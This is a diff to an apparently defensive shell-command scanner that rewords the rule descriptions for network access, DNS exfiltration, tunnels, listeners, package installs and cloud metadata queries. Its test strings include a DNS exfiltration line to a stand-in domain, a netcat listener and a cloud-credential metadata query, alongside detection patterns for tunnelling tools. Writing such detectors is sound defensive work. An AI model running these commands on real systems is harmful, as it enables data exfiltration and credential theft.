@@ -14,12 +14,12 @@ from engine.models import Violation
 
 NETWORK = rule(
     "sh-network",
-    "Talks to another machine",
+    "Connects to another machine",
     "net_access",
     MEDIUM,
-    attack="Reports home, or fetches instructions.",
+    attack="Reports to an attacker, or fetches instructions.",
     why=("MEDIUM: the sandbox has no network unless it is granted; LOW where the other end is this machine."),
-    fix="Ask for the domain as a capability.",
+    fix="Request the domain as a permission.",
     match=(
         "curl https://x.test/api",
         "nc -u 10.0.0.1 53",
@@ -37,11 +37,11 @@ NETWORK = rule(
 )
 DNS_EXFIL = rule(
     "sh-dns-exfil",
-    "Hides data in names that it looks up",
+    "Hides data in DNS queries",
     "exfil_upload",
     HIGH,
-    attack="Sends data as the labels of a domain name: DNS passes where nothing else does.",
-    why="HIGH: command output inside a name has no other use.",
+    attack="Sends data as labels of a domain name: DNS is often the only allowed protocol.",
+    why="HIGH: command output in a domain name has no other use.",
     fix="Remove it.",
     match=(
         "dig $(cat a | base64).x.test",
@@ -59,10 +59,10 @@ DNS_EXFIL = rule(
 )
 TUNNEL = rule(
     "sh-tunnel",
-    "Opens a tunnel or hides where it talks to",
+    "Opens a tunnel or hides its destination",
     "net_access",
     HIGH,
-    attack=("Makes this machine reachable from outside, or routes around what watches the network."),
+    attack=("Makes this machine reachable from outside, or bypasses network monitoring."),
     why="HIGH: a tunnel defeats every rule about hosts and ports.",
     fix="Remove it.",
     match=(
@@ -81,15 +81,14 @@ TUNNEL = rule(
 )
 LISTENER = rule(
     "sh-listener",
-    "Waits for connections",
+    "Listens for connections",
     "net_access",
     MEDIUM,
-    attack="Opens a door into the machine, or serves its files.",
+    attack="Lets an attacker into the machine, or serves its files.",
     why=(
-        "MEDIUM: nothing outside reaches the sandbox; HIGH with a shell behind it, which "
-        "has a rule of its own."
+        "MEDIUM: nothing outside can reach the sandbox; HIGH with a shell behind it, which has its own rule."
     ),
-    fix="Run no servers.",
+    fix="Do not run servers.",
     match=(
         "nc -lvnp 4444",
         "python3 -m http.server 8000",
@@ -108,9 +107,9 @@ PACKAGE = rule(
     "Installs packages",
     "net_download",
     MEDIUM,
-    attack="Runs an installer of the attacker's: a mistyped or made-up name is enough.",
-    why="MEDIUM: packages are granted by name and version; HIGH from an address or another registry.",
-    fix="Ask for the package as a capability.",
+    attack="Runs the attacker's installer: a misspelt or invented name is enough.",
+    why="MEDIUM: packages are granted by name and version; HIGH from a URL or another registry.",
+    fix="Request the package as a permission.",
     match=(
         "pip install requests",
         "npm install left-pad",
@@ -125,11 +124,11 @@ PACKAGE = rule(
 )
 METADATA = rule(
     "sh-cloud-metadata",
-    "Asks the cloud's metadata service",
+    "Queries the cloud metadata service",
     "secrets_env",
     HIGH,
-    attack="Reads the credentials of the machine's own cloud role.",
-    why="HIGH: the only thing of value there is credentials.",
+    attack="Reads the credentials of the machine's cloud role.",
+    why="HIGH: the only valuable content there is credentials.",
     fix="Remove it.",
     match=(
         "curl http://169.254.169.254/latest/meta-data/",
@@ -166,7 +165,7 @@ _INSTALLS = (
 _ELSEWHERE = r"\bgit\+|https?://|--(?:extra-)?index-url|--registry|--trusted-host|\.git\b"
 _HIDERS = {"proxychains", "proxychains4", "torsocks", "torify", "tsocks"}
 _RANGE = re.compile(r"^(?:\d{1,3}\.){1,3}\x00")
-"""An address whose end only the run will tell."""
+"""An address whose end is known only at run time."""
 _DEVICE = re.compile(r"/dev/(?:tcp|udp)/(localhost|127\.)?")
 _PATTERNS = by_name(
     pattern(TUNNEL, _TUNNELS, test=has_arguments),
